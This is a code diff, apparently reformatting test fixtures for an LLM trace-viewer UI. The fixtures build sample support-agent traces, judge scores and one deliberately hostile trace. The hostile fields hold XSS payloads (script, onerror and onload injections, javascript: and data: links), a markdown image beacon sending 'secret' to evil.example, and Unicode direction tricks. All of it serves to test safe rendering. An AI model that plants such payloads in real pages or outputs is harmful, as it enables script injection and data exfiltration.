@@ -14,7 +14,10 @@ const talks: readonly [[string, string], ...[string, string][]] = [
   ['Which jacket is warmer, Nord or Polar?', 'The Polar (700 fill, comfort −22 °C) is the warmer of the two.'],
 ]
 const failures: readonly [[string, string], ...[string, string][]] = [
-  ['I returned two of the three items from #48213, I need my money back', 'RefundAmountError: refund 189.00 EUR exceeds captured 149.00 EUR'],
+  [
+    'I returned two of the three items from #48213, I need my money back',
+    'RefundAmountError: refund 189.00 EUR exceeds captured 149.00 EUR',
+  ],
   ['Ship to Svalbard, how much?', 'ToolTimeout: get_shipping_rate exceeded 8,000 ms'],
   ['give me the phone number of the customer before me', 'GuardrailBlocked: pii_filter (category contact) stopped the answer'],
   ['Track 1Z-88-2231 please', "KeyError: 'tracking_url' in lookup_order"],
@@ -22,8 +25,18 @@ const failures: readonly [[string, string], ...[string, string][]] = [
 
 export function anAssessment(part: Partial<Assessment> & Pick<Assessment, 'traceId' | 'name' | 'value'>): Assessment {
   return {
-    assessmentId: `a-${part.traceId}-${part.name}`, spanId: null, kind: 'feedback', rationale: null, source: { type: 'LLM_JUDGE', id: 'judge v3' }, error: null,
-    metadata: {}, createdAtMs: Date.now(), updatedAtMs: Date.now(), overrides: null, valid: true, ...part,
+    assessmentId: `a-${part.traceId}-${part.name}`,
+    spanId: null,
+    kind: 'feedback',
+    rationale: null,
+    source: { type: 'LLM_JUDGE', id: 'judge v3' },
+    error: null,
+    metadata: {},
+    createdAtMs: Date.now(),
+    updatedAtMs: Date.now(),
+    overrides: null,
+    valid: true,
+    ...part,
   }
 }
 
@@ -36,28 +49,64 @@ export function exampleTrace(number: number, startMs: number, experimentId: stri
   const traceId = `tr-${(number * 2_654_435_761 + 16_777_216).toString(16).padStart(12, '0')}`
   const tokens = Math.round(900 + next() * next() * 18_000)
   const scores: Assessment[] = []
-  if (next() < 0.7 && !running) scores.push(anAssessment({ traceId, name: 'correct', value: Math.round((failed ? next() * 0.6 : 0.6 + next() * 0.4) * 100) / 100 }))
-  if (next() < 0.5 && !running) scores.push(anAssessment({ traceId, name: 'helpful', value: Math.round((failed ? 0.2 + next() * 0.4 : 0.7 + next() * 0.3) * 100) / 100 }))
+  if (next() < 0.7 && !running)
+    scores.push(anAssessment({ traceId, name: 'correct', value: Math.round((failed ? next() * 0.6 : 0.6 + next() * 0.4) * 100) / 100 }))
+  if (next() < 0.5 && !running)
+    scores.push(
+      anAssessment({ traceId, name: 'helpful', value: Math.round((failed ? 0.2 + next() * 0.4 : 0.7 + next() * 0.3) * 100) / 100 }),
+    )
   return {
-    traceId, experimentId, name: 'support-agent', status: running ? 'IN_PROGRESS' : failed ? 'ERROR' : 'OK', startMs,
-    durationMs: running ? null : Math.round(400 + next() * next() * 11_000), inputPreview, outputPreview: running || failed ? '' : said, error: failed ? said : null,
-    spanCount: 22, errorCount: failed ? 3 : 0, tokens, costUsd: tokens * 0.0000019, unpriced: next() < 0.03, session: `c-${Math.floor(next() * 0xffff).toString(16)}`,
-    user: `u_${18_000 + Math.floor(next() * 3000)}`, version: next() < 0.25 ? 'v42' : 'v41', models: ['claude-sonnet-4.5', 'gpt-5-mini'],
-    tags: { env: 'production' }, assessments: scores, clockSuspect: false,
+    traceId,
+    experimentId,
+    name: 'support-agent',
+    status: running ? 'IN_PROGRESS' : failed ? 'ERROR' : 'OK',
+    startMs,
+    durationMs: running ? null : Math.round(400 + next() * next() * 11_000),
+    inputPreview,
+    outputPreview: running || failed ? '' : said,
+    error: failed ? said : null,
+    spanCount: 22,
+    errorCount: failed ? 3 : 0,
+    tokens,
+    costUsd: tokens * 0.0000019,
+    unpriced: next() < 0.03,
+    session: `c-${Math.floor(next() * 0xffff).toString(16)}`,
+    user: `u_${18_000 + Math.floor(next() * 3000)}`,
+    version: next() < 0.25 ? 'v42' : 'v41',
+    models: ['claude-sonnet-4.5', 'gpt-5-mini'],
+    tags: { env: 'production' },
+    assessments: scores,
+    clockSuspect: false,
   }
 }
 
 /** Texts that try to break out of the page, reorder it, load something, or hide. */
 export const hostileText = [
-  '<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">', '<svg onload=window.__pwned=1>', '[click](javascript:window.__pwned=1)',
-  '![beacon](http://evil.example/?q=secret)', '<a href="data:text/html,<script>1</script>">x</a>', 'total: \u202e00.981 RUE', 'pass\u200bword', '\u001b[31mred\u001b[0m',
-  '`<b>code</b>`', '| a | b |\n|---|---|\n| <img src=y> | **bold** |',
+  '<script>window.__pwned=1</script>',
+  '<img src=x onerror="window.__pwned=1">',
+  '<svg onload=window.__pwned=1>',
+  '[click](javascript:window.__pwned=1)',
+  '![beacon](http://evil.example/?q=secret)',
+  '<a href="data:text/html,<script>1</script>">x</a>',
+  'total: \u202e00.981 RUE',
+  'pass\u200bword',
+  '\u001b[31mred\u001b[0m',
+  '`<b>code</b>`',
+  '| a | b |\n|---|---|\n| <img src=y> | **bold** |',
 ].join('\n\n')
 
 export function hostileTrace(startMs: number, experimentId: string): TraceSummary {
   return {
-    ...exampleTrace(3, startMs, experimentId), traceId: 'tr-hostile', status: 'ERROR', inputPreview: hostileText, outputPreview: hostileText, error: hostileText,
-    session: '<img src=x onerror=window.__pwned=1>', user: '\u202eevil', version: '"><script>', tags: { '<b>tag</b>': '<script>window.__pwned=1</script>' },
+    ...exampleTrace(3, startMs, experimentId),
+    traceId: 'tr-hostile',
+    status: 'ERROR',
+    inputPreview: hostileText,
+    outputPreview: hostileText,
+    error: hostileText,
+    session: '<img src=x onerror=window.__pwned=1>',
+    user: '\u202eevil',
+    version: '"><script>',
+    tags: { '<b>tag</b>': '<script>window.__pwned=1</script>' },
     assessments: [anAssessment({ traceId: 'tr-hostile', name: '<img src=x>', value: '<script>1</script>', rationale: hostileText })],
   }
 }
